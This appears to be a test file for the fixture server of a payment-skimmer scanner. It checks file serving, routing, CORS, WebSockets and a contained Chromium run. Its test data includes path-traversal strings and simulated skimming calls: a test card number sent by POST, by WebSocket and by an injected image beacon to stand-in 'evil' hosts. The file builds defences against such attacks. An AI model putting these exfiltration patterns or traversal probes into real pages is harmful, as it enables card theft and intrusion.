import { X509Certificate } from 'node:crypto';
import { existsSync } from 'node:fs';
import { mkdir, mkdtemp, rm, writeFile } from 'node:fs/promises';
import http from 'node:http';
import https from 'node:https';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import puppeteer from 'puppeteer-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import WebSocket from 'ws';
import { generateFixtureCert } from './cert.js';
import { startFixtureServer, type FixtureServer } from './index.js';

let root: string;
let server: FixtureServer;

async function put(rel: string, content: string) {
  const file = join(root, rel);
  await mkdir(dirname(file), { recursive: true });
  await writeFile(file, content);
}

interface Reply {
  status: number;
  headers: http.IncomingHttpHeaders;
  body: Buffer;
  text: string;
}

/** Raw request to the fixture port with a chosen Host header (no URL normalisation). */
function request(
  scheme: 'http' | 'https',
  host: string,
  path: string,
  opts: { method?: string; headers?: Record<string, string>; body?: string | Buffer } = {},
): Promise<Reply> {
  const lib = scheme === 'https' ? https : http;
  return new Promise((resolve, reject) => {
    const req = lib.request(
      {
        host: '127.0.0.1',
        port: server.port,
        path,
        method: opts.method ?? 'GET',
        headers: { host: `${host}:${server.port}`, ...(opts.headers ?? {}) },
        servername: scheme === 'https' ? host : undefined,
        rejectUnauthorized: false,
        agent: false,
      },
      (res) => {
        const chunks: Buffer[] = [];
        res.on('data', (c: Buffer) => chunks.push(c));
        res.on('end', () => {
          const body = Buffer.concat(chunks);
          resolve({ status: res.statusCode ?? 0, headers: res.headers, body, text: body.toString('utf8') });
        });
        res.on('error', reject);
      },
    );
    req.on('error', reject);
    req.end(opts.body);
  });
}

beforeAll(async () => {
  root = await mkdtemp(join(tmpdir(), 'skimscan-fixture-'));
  await put('pay.a.example/index.html', '<!doctype html><title>Pay A</title><h1>Pay your bill</h1>');
  await put('pay.a.example/pay.html', '<!doctype html><title>Pay form</title>');
  await put('pay.a.example/raw', 'raw file');
  await put('pay.a.example/sub/index.html', '<title>Sub</title>');
  await put('pay.a.example/js/app.js', 'console.log("app")');
  await put('pay.a.example/_expect.json', '{"verdict":"clean"}');
  await put('pay.a.example/_private/secret.txt', 'secret');
  await put('secret.txt', 'outside the site');
  await put('pay.a.example/_vendor.json', JSON.stringify({ '/assets/js/jquery.min.js': 'jquery/dist/jquery.min.js' }));
  await put('pay.a.example/_routes.json', JSON.stringify({
    '*': { headers: { 'X-Site': 'a' } },
    'POST /pay/submit': { status: 303, headers: { Location: '/pay/confirmation.html' } },
    '/slow': { body: 'slow', delayMs: 150 },
    '/teapot': { status: 418, headers: { 'Content-Type': 'text/x-tea' }, body: 'short and stout' },
    '/alias': { file: 'pay.html' },
  }));
  server = await startFixtureServer({ sitesDir: root });
});

afterAll(async () => {
  await server?.close();
  if (root) await rm(root, { recursive: true, force: true });
});

describe('certificate', () => {
  it('is a self-signed leaf with the fixture SANs', () => {
    const x = new X509Certificate(generateFixtureCert().cert);
    expect(x.verify(x.publicKey)).toBe(true);
    expect(x.subjectAltName).toContain('DNS:*.example');
    expect(x.subjectAltName).toContain('DNS:*.test');
    expect(x.subjectAltName).toContain('DNS:localhost');
    expect(x.checkIP('127.0.0.1')).toBe('127.0.0.1');
  });
});

describe('fixture server', () => {
  it('serves index.html for / and dir/, and speaks http and https on one port', async () => {
    const s = await request('https', 'pay.a.example', '/');
    expect(s.status).toBe(200);
    expect(s.headers['content-type']).toMatch(/^text\/html/);
    expect(s.text).toContain('Pay your bill');
    const h = await request('http', 'pay.a.example', '/');
    expect(h.text).toContain('Pay your bill');
    expect((await request('https', 'pay.a.example', '/sub/')).text).toContain('Sub');
    const redirect = await request('https', 'pay.a.example', '/sub?x=1');
    expect(redirect.status).toBe(301);
    expect(redirect.headers.location).toBe('/sub/?x=1');
    const schemes = server.requests.filter((r) => r.path === '/').map((r) => r.scheme);
    expect(schemes).toEqual(expect.arrayContaining(['https', 'http']));
  });

  it('keeps serving several requests over one keep-alive connection (http and https)', async () => {
    for (const lib of [http, https] as const) {
      const agent = new lib.Agent({ keepAlive: true, maxSockets: 1, rejectUnauthorized: false } as https.AgentOptions);
      const ports = new Set<number>();
      for (let i = 0; i < 3; i++) {
        const text = await new Promise<string>((resolve, reject) => {
          const req = lib.request({
            host: '127.0.0.1', port: server.port, path: `/api/ka${i}`, method: 'POST', agent,
            headers: { host: `pay.a.example:${server.port}` },
          }, (res) => {
            ports.add(res.socket.localPort!);
            let body = '';
            res.on('data', (c) => (body += c));
            res.on('end', () => resolve(body));
          });
          req.on('error', reject);
          req.end(`n=${i}`);
        });
        expect(text).toBe('{"ok":true}');
      }
      expect(ports.size).toBe(1);
      agent.destroy();
    }
    expect(server.requests.filter((r) => r.path === '/api/ka2').map((r) => r.body)).toEqual(['n=2', 'n=2']);
  });

  it('origin() builds scheme://host:port', () => {
    expect(server.origin('pay.dothan.example')).toBe(`https://pay.dothan.example:${server.port}`);
    expect(server.origin('x.test', 'ws')).toBe(`ws://x.test:${server.port}`);
  });

  it('falls back to .html, serves exact files first, types by extension', async () => {
    const pay = await request('https', 'pay.a.example', '/pay');
    expect(pay.status).toBe(200);
    expect(pay.text).toContain('Pay form');
    expect((await request('https', 'pay.a.example', '/raw')).text).toBe('raw file');
    const js = await request('https', 'pay.a.example', '/js/app.js');
    expect(js.headers['content-type']).toMatch(/^text\/javascript/);
    expect((await request('https', 'pay.a.example', '/nope.js')).status).toBe(404);
  });

  it('serves _vendor.json paths from node_modules', async () => {
    const r = await request('https', 'pay.a.example', '/assets/js/jquery.min.js');
    expect(r.status).toBe(200);
    expect(r.headers['content-type']).toMatch(/^text\/javascript/);
    expect(r.text).toMatch(/jQuery/);
    expect(r.body.length).toBeGreaterThan(50_000);
  });

  it('applies _routes.json: status, headers, body, file, delay and "*" headers', async () => {
    const post = await request('https', 'pay.a.example', '/pay/submit', { method: 'POST', body: 'a=1' });
    expect(post.status).toBe(303);
    expect(post.headers.location).toBe('/pay/confirmation.html');
    expect(post.headers['x-site']).toBe('a');
    const tea = await request('https', 'pay.a.example', '/teapot');
    expect(tea.status).toBe(418);
    expect(tea.headers['content-type']).toBe('text/x-tea');
    expect(tea.text).toBe('short and stout');
    expect((await request('https', 'pay.a.example', '/alias')).text).toContain('Pay form');
    const t0 = Date.now();
    expect((await request('https', 'pay.a.example', '/slow')).text).toBe('slow');
    expect(Date.now() - t0).toBeGreaterThanOrEqual(140);
    expect((await request('https', 'pay.a.example', '/pay')).headers['x-site']).toBe('a');
    // a method-specific route does not catch other methods
    expect((await request('https', 'pay.a.example', '/pay/submit')).status).toBe(404);
  });

  it('never serves files starting with _ and refuses traversal', async () => {
    expect((await request('https', 'pay.a.example', '/_routes.json')).status).toBe(404);
    expect((await request('https', 'pay.a.example', '/_expect.json')).status).toBe(404);
    expect((await request('https', 'pay.a.example', '/_vendor.json')).status).toBe(404);
    expect((await request('https', 'pay.a.example', '/_private/secret.txt')).status).toBe(404);
    for (const p of ['/../secret.txt', '/%2e%2e/secret.txt', '/js/..%2f..%2fsecret.txt', '/..\\secret.txt']) {
      const r = await request('https', 'pay.a.example', p);
      expect(r.status, p).toBe(400);
      expect(r.text).not.toContain('outside the site');
    }
    // a Host header cannot walk out of the sites root either
    const h = await request('http', '..', '/secret.txt');
    expect(h.text).not.toContain('outside the site');
  });

  it('answers hosts without a site with 200, CORS, and a gif for image paths', async () => {
    const r = await request('https', 'cdn.evil.example', '/collect?d=abc');
    expect(r.status).toBe(200);
    expect(r.text).toBe('');
    expect(r.headers['access-control-allow-origin']).toBe('*');
    const img = await request('https', 'cdn.evil.example', '/p.gif?d=abc');
    expect(img.headers['content-type']).toBe('image/gif');
    expect(img.body.subarray(0, 6).toString('latin1')).toBe('GIF89a');
    const rec = server.requests.find((x) => x.path === '/p.gif');
    expect(rec).toMatchObject({ host: 'cdn.evil.example', query: 'd=abc', scheme: 'https', method: 'GET' });
    expect(rec!.url).toBe(`https://cdn.evil.example:${server.port}/p.gif?d=abc`);
  });

  it('records POST bodies, text and binary, and answers POST to a missing file with {"ok":true}', async () => {
    const known = await request('https', 'pay.a.example', '/api/log', {
      method: 'POST', body: '{"cc":"4111111111111111"}', headers: { 'content-type': 'application/json' },
    });
    expect(known.status).toBe(200);
    expect(JSON.parse(known.text)).toEqual({ ok: true });
    expect(known.headers['access-control-allow-origin']).toBe('*');
    const rec = await server.waitFor((r) => r.path === '/api/log', 1000);
    expect(rec.body).toBe('{"cc":"4111111111111111"}');
    expect(rec.bodyBase64).toBeUndefined();
    expect(rec.headers['content-type']).toBe('application/json');

    const bin = Buffer.from([0xff, 0xfe, 0x00, 0x41]);
    await request('http', 'drop.evil.test', '/b', { method: 'PUT', body: bin });
    const b = await server.waitFor((r) => r.host === 'drop.evil.test', 1000);
    expect(b.scheme).toBe('http');
    expect(Buffer.from(b.bodyBase64!, 'base64')).toEqual(bin);
  });

  it('answers OPTIONS with permissive CORS', async () => {
    for (const host of ['pay.a.example', 'api.evil.example']) {
      const r = await request('https', host, '/api/x', {
        method: 'OPTIONS',
        headers: {
          origin: 'https://pay.a.example',
          'access-control-request-method': 'POST',
          'access-control-request-headers': 'content-type,x-token',
        },
      });
      expect(r.status).toBe(204);
      expect(r.headers['access-control-allow-origin']).toBe('https://pay.a.example');
      expect(r.headers['access-control-allow-methods']).toContain('POST');
      expect(r.headers['access-control-allow-headers']).toBe('content-type,x-token');
    }
  });

  it('accepts WebSocket on any host (ws and wss), records frames and answers {"ok":true}', async () => {
    for (const scheme of ['wss', 'ws'] as const) {
      const ws = new WebSocket(`${scheme}://127.0.0.1:${server.port}/socket?room=1`, {
        headers: { host: `ws.evil.example:${server.port}` },
        rejectUnauthorized: false,
      });
      const reply = new Promise<string>((resolve, reject) => {
        ws.once('message', (d) => resolve(String(d)));
        ws.once('error', reject);
      });
      await new Promise((resolve, reject) => {
        ws.once('open', resolve);
        ws.once('error', reject);
      });
      ws.send(`card=4111111111111111&via=${scheme}`);
      expect(await reply).toBe('{"ok":true}');
      const rec = await server.waitFor(
        (r) => r.scheme === scheme && r.frames.some((f) => f.data.includes(`via=${scheme}`)),
        1000,
      );
      expect(rec).toMatchObject({ host: 'ws.evil.example', path: '/socket', query: 'room=1' });
      expect(rec.frames.map((f) => f.dir)).toEqual(['sent', 'received']);
      ws.close();
    }
  });

  it('waitFor waits for later requests and times out with a readable error', async () => {
    const later = server.waitFor((r) => r.host === 'late.example', 2000);
    setTimeout(() => void request('http', 'late.example', '/x'), 50);
    expect((await later).path).toBe('/x');
    await expect(server.waitFor((r) => r.host === 'never.example', 50)).rejects.toThrow(/no matching request/);
  });

  it('clear() empties the live array in place', async () => {
    const arr = server.requests;
    await request('http', 'x.example', '/');
    expect(arr.length).toBeGreaterThan(0);
    server.clear();
    expect(arr).toBe(server.requests);
    expect(arr.length).toBe(0);
  });

  it('close() ends promptly with a keep-alive socket and an open WebSocket', async () => {
    const s2 = await startFixtureServer({ sitesDir: root });
    const ws = new WebSocket(`ws://127.0.0.1:${s2.port}/`, { headers: { host: 'a.example' } });
    await new Promise((resolve, reject) => {
      ws.once('open', resolve);
      ws.once('error', reject);
    });
    const agent = new http.Agent({ keepAlive: true });
    await new Promise<void>((resolve) => {
      http.get({ host: '127.0.0.1', port: s2.port, path: '/', agent }, (res) => {
        res.resume();
        res.on('end', () => resolve());
      });
    });
    const pending = s2.waitFor(() => false, 10_000);
    const t0 = Date.now();
    await s2.close();
    await expect(pending).rejects.toThrow(/closed/);
    expect(Date.now() - t0).toBeLessThan(1000);
    agent.destroy();
  });
});

const chrome = process.env.SKIMSCAN_CHROME ?? '/usr/bin/chromium';

describe.skipIf(!existsSync(chrome))('fixture server in real Chromium (contained)', () => {
  it('loads https://pay.a.example/ through host-resolver-rules', async () => {
    const profile = await mkdtemp(join(tmpdir(), 'skimscan-profile-'));
    await mkdir(join(profile, 'Default'), { recursive: true });
    await writeFile(join(profile, 'Default', 'Preferences'), JSON.stringify({ alternate_error_pages: { enabled: false } }));
    const p = server.port;
    const browser = await puppeteer.launch({
      executablePath: chrome,
      headless: true,
      args: [
        ...(process.getuid?.() === 0 ? ['--no-sandbox'] : []),
        '--headless=new',
        '--ignore-certificate-errors',
        `--host-resolver-rules=MAP *.example 127.0.0.1:${p}, MAP *.test 127.0.0.1:${p}, MAP * ~NOTFOUND, EXCLUDE localhost, EXCLUDE 127.0.0.1`,
        '--disable-background-networking',
        '--disable-component-update',
        '--disable-sync',
        '--no-first-run',
        '--disable-quic',
        `--user-data-dir=${profile}`,
      ],
    });
    try {
      server.clear();
      const page = await browser.newPage();
      const res = await page.goto('https://pay.a.example/', { waitUntil: 'load', timeout: 15_000 });
      expect(res?.status()).toBe(200);
      expect(await page.title()).toBe('Pay A');
      expect(await page.$eval('h1', (h) => h.textContent)).toBe('Pay your bill');
      const rec = await server.waitFor((r) => r.url === 'https://pay.a.example/', 2000);
      expect(rec).toMatchObject({ host: 'pay.a.example', port: 443, scheme: 'https', method: 'GET' });
      // an image beacon to a host without a site is recorded too
      await page.evaluate(() => {
        new Image().src = 'https://collect.evil.test/i.gif?c=4111';
      });
      await server.waitFor((r) => r.host === 'collect.evil.test' && r.query === 'c=4111', 5000);
    } finally {
      await browser.close();
      await rm(profile, { recursive: true, force: true });
    }
  });
});

describe('generateFixtureCert', () => {
  it('always produces a certificate TLS accepts (DER integers minimal)', async () => {
    const { createSecureContext } = await import('node:tls');
    for (let i = 0; i < 300; i++) {
      const { key, cert } = generateFixtureCert();
      expect(() => createSecureContext({ key, cert })).not.toThrow();
      expect(new X509Certificate(cert).subject).toContain('skimscan');
    }
  });
});
